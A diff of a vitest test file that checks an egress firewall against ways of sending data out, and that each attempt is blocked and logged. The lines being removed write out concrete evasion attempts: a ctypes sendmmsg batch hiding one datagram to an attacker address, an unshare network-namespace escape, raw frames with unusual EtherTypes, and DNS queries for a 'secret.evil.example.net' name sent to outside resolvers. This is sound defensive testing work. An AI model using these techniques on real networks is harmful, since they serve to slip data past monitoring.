@@ -1,103 +1,95 @@
-// Ways of sending that an egress firewall can miss. Each is tried against an address nobody has
-// allowed, where nothing may arrive and a record must say so, and through the same path against an
-// allowed one, where it must arrive.
+// Ways of sending that an egress firewall can miss, against the whole wall and against each of its
+// layers alone. Each is tried where nothing may arrive and a record must say so, and through the same
+// path where it must arrive.
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { AuditEvent } from '../../src/core/audit/event.ts';
-import { ALLOWED, Arena, ATTACKER } from './arena.ts';
-import { CASES, UDP } from './cases.ts';
+import { Arena } from './arena.ts';
+import type { Case, Target } from './case.ts';
+import { PACKETS } from './packets.ts';
+import { SHAPES } from './shapes.ts';
+import { ELSEWHERE, SOCKETS } from './sockets.ts';
+import { Told } from './told.ts';
+import { reduceTo, resume, type Wall } from './wall.ts';
 
-const arena = new Arena();
-const closed: string[] = [];
+const CASES = [...SOCKETS, ...ELSEWHERE, ...PACKETS, ...SHAPES];
 
-beforeAll(() => arena.open(), 60_000);
-afterAll(() => {
-  arena.close();
-  process.stdout.write(`${closed.map((one) => `${one}: closed\n`).join('')}`);
-});
+/** The cases a wall must hold against. */
+function casesOf(wall: Wall): readonly Case[] {
+  if (wall === 'the cgroup layer alone') return CASES.filter(({ only }) => only !== 'wall');
+  return wall === 'the wall alone' ? CASES.filter(({ only }) => only !== 'cgroup') : CASES;
+}
 
-describe('ways of sending', () => {
-  test.each(CASES)('case $number ($privilege), $what', async (one) => {
-    const { number, what, privilege, script, to = ATTACKER, control, record } = one;
-    if (control !== undefined) {
-      const passed = arena.attempt(privilege, script, control);
-      expect([passed.stdout.trim(), await arena.hasArrived(passed.marker, true)]).toEqual([
-        'sent',
-        true,
-      ]);
-    }
-    const before = (await arena.guarded.events()).length;
-    const tried = arena.attempt(privilege, script, to);
-    const isIt = (event: AuditEvent) => event.dst_ip === to && event.blocked;
-    const events = await arena.guarded.events((all) => all.slice(before).some(isIt));
-    expect(events.slice(before).find(isIt)).toMatchObject(record ?? {});
-    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
-    closed.push(`case ${number}, ${what}`);
-  });
+/** A case's own address of a kind. */
+function addressOf(target: Target, at: number): string {
+  const kinds: Readonly<Record<string, string>> = {
+    refused: `203.0.112.${at}`,
+    refused6: `2001:db8:bad::${at.toString(16)}`,
+    open: `198.51.101.${at}`,
+    open6: `2001:db8:2::${at.toString(16)}`,
+  };
+  return kinds[target] ?? target;
+}
 
-  test.each([
-    ['PPPoE', `frame(b'\\x88\\x64', M)`, '0x8864'],
-    ['MPLS', `frame(b'\\x88\\x47', M)`, '0x8847'],
-    ['an EtherType of its own', `frame(b'\\x88\\xb5', M)`, '0x88b5'],
-    [
-      'ARP with a payload',
-      `frame(b'\\x08\\x06', b'\\0\\1\\x08\\0\\6\\4\\0\\1' + bytes(20) + M)`,
-      '0x0806',
-    ],
-  ])('case 28 (N), %s', async (what, script, reason) => {
-    const tried = arena.attempt('N', script, ATTACKER);
-    const isIt = (event: AuditEvent) => event.reason === reason && event.blocked;
-    await arena.guarded.events((all) => all.some(isIt));
-    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
-    closed.push(`case 28, ${what}`);
-  });
+function isRecordOf(event: AuditEvent, { record }: Case, to: string): boolean {
+  const isThere = record?.reason === undefined ? event.dst_ip === to : true;
+  const wanted = Object.entries(record ?? {});
+  return (
+    event.blocked && isThere && wanted.every(([key, value]) => Reflect.get(event, key) === value)
+  );
+}
 
-  test('case 2 (U), a batch of which one is allowed', async () => {
-    const script = `
-libc = ctypes.CDLL(None, use_errno=True)
-class V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]
-class H(ctypes.Structure): _fields_ = [('name', ctypes.c_void_p), ('nl', ctypes.c_uint), ('v', ctypes.c_void_p), ('vl', ctypes.c_size_t), ('c', ctypes.c_void_p), ('cl', ctypes.c_size_t), ('f', ctypes.c_int)]
-class E(ctypes.Structure): _fields_ = [('h', H), ('l', ctypes.c_uint)]
-all, keep = (E * 3)(), []
-for i, a in enumerate(['${ALLOWED}', TO, '${ALLOWED}']):
-    at = ctypes.create_string_buffer(struct.pack('<H', 2) + struct.pack('>H', 9) + socket.inet_aton(a) + bytes(8), 16)
-    text = ctypes.create_string_buffer(M if a == TO else b'mark-ok%d!' % i); v = V(ctypes.addressof(text), len(text) - 1); keep += [at, text, v]
-    all[i].h = H(ctypes.addressof(at), 16, ctypes.addressof(v), 1, None, 0, 0)
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-if libc.sendmmsg(s.fileno(), all, 3, 0) != 1: raise OSError(0, 'not one')`;
-    const tried = arena.attempt('U', script, ATTACKER);
-    expect(tried.stdout.trim()).toBe('sent');
-    expect(await arena.hasArrived('mark-ok0!', true)).toBe(true);
-    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
-    closed.push('case 2, a batch of which one is allowed');
-  });
+/** What became of a case: the marker of each part, or what it said instead. */
+interface Try {
+  readonly to: string;
+  readonly attempt: string;
+  readonly control?: string;
+}
 
-  test('case 44 (U), a network namespace of its own', async () => {
-    const inner = `${UDP}; s.sendto(M, (TO, 9))`;
-    const words = `os.execvp('unshare', ['unshare', '-Urn', sys.executable, '-c', ${JSON.stringify(`import socket, sys; TO, M = sys.argv[1], sys.argv[2].encode(); ${inner}`)}, TO, sys.argv[2]])`;
-    const tried = arena.attempt('U', words, ATTACKER);
-    expect(tried.stderr).toMatch(/unreachable|not permitted/iu);
-    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
-    closed.push('case 44, a network namespace of its own');
-  });
+function tryOut(arena: Arena, one: Case, at: number): Try {
+  const { privilege, script, to: target = 'refused', control } = one;
+  const to = addressOf(target, at);
+  const passes =
+    control &&
+    arena.attempt(privilege, control.script ?? script, addressOf(control.to ?? target, at));
+  const { code, stderr, marker } = arena.attempt(privilege, script, to);
+  const attempt = code === 0 ? marker : stderr;
+  if (passes === undefined) return { to, attempt };
+  const { stdout, stderr: said } = passes;
+  return { to, attempt, control: stdout.trim() === 'sent' ? passes.marker : `${stdout}${said}` };
+}
 
-  test('cases 63, 64 and 73 (U), questions to other resolvers, by UDP and TCP, and reverse ones', async () => {
-    const { guarded } = arena;
-    const before = guarded.heard.length;
-    const dig = (...words: string[]) => guarded.run('dig', '+tries=1', '+time=2', ...words).stdout;
-    expect(dig('secret.evil.example.net', `@${ATTACKER}`)).toContain('REFUSED');
-    expect(dig('+tcp', 'secret.evil.example.net', '@8.8.8.8')).toContain('REFUSED');
-    expect(dig('secret.evil.example.net', 'TXT', '@192.0.2.53')).toContain('REFUSED');
-    expect(dig('-x', '2001:db8::5ec4:e7', '@192.0.2.53')).toContain('NXDOMAIN');
-    expect(guarded.heard.slice(before).filter((text) => /evil|arpa/u.test(text))).toEqual([]);
-    const refused = await guarded.events((all) =>
-      all.some(({ dst_hostname: name }) => name === 'secret.evil.example.net'),
-    );
-    expect(refused.some(({ event_type: type }) => type === 'dns_blocked')).toBe(true);
-    closed.push('cases 63, 64, 73, questions to other resolvers');
-  });
+const told = new Told();
+afterAll(() => told.print());
 
-  test('case 75 (U), what is denied starts no look-up of its own', () => {
-    expect(arena.guarded.heard.filter((text) => /arpa|198\.51|PTR/u.test(text))).toEqual([]);
-    closed.push('case 75, no look-up of what is denied');
+describe.each<Wall>(['both layers', 'the cgroup layer alone', 'the wall alone'])('%s', (wall) => {
+  const arena = new Arena();
+  const tries = new Map<Case, Try>();
+  let events: readonly AuditEvent[] = [];
+
+  beforeAll(async () => {
+    await arena.open();
+    await arena.guard();
+    const gone = reduceTo(wall, arena.guarded);
+    expect(gone.length > 0).toBe(wall !== 'both layers');
+    for (const [at, one] of casesOf(wall).entries()) tries.set(one, tryOut(arena, one, at + 1));
+    await arena.barrier();
+    if (wall !== 'both layers') resume(arena.guarded);
+    const last = arena.attempt('U', 'datagram().sendto(M, (TO, 9))', '203.0.112.254');
+    expect(last.code).toBe(0);
+    events = await arena.guarded.events((all) => all.some((e) => e.dst_ip === '203.0.112.254'));
+  }, 240_000);
+  afterAll(() => arena.close());
+
+  test.each(casesOf(wall))('case $number ($privilege), $what', (one) => {
+    const { to, attempt, control } = tries.get(one) ?? { to: '', attempt: 'not tried' };
+    expect(attempt).toMatch(/^mark-/u);
+    if (control !== undefined) expect([control, arena.saw(control)]).toEqual([control, true]);
+    expect(arena.saw(attempt)).toBe(false);
+    const near = events.filter((event) => event.dst_ip === to || event.dst_ip === undefined);
+    expect(
+      near.filter((event) => isRecordOf(event, one, to)),
+      JSON.stringify(near),
+    ).not.toEqual([]);
+    told.closed(one.number, wall === 'both layers' ? one.what : `${one.what}, ${wall}`);
   });
 });
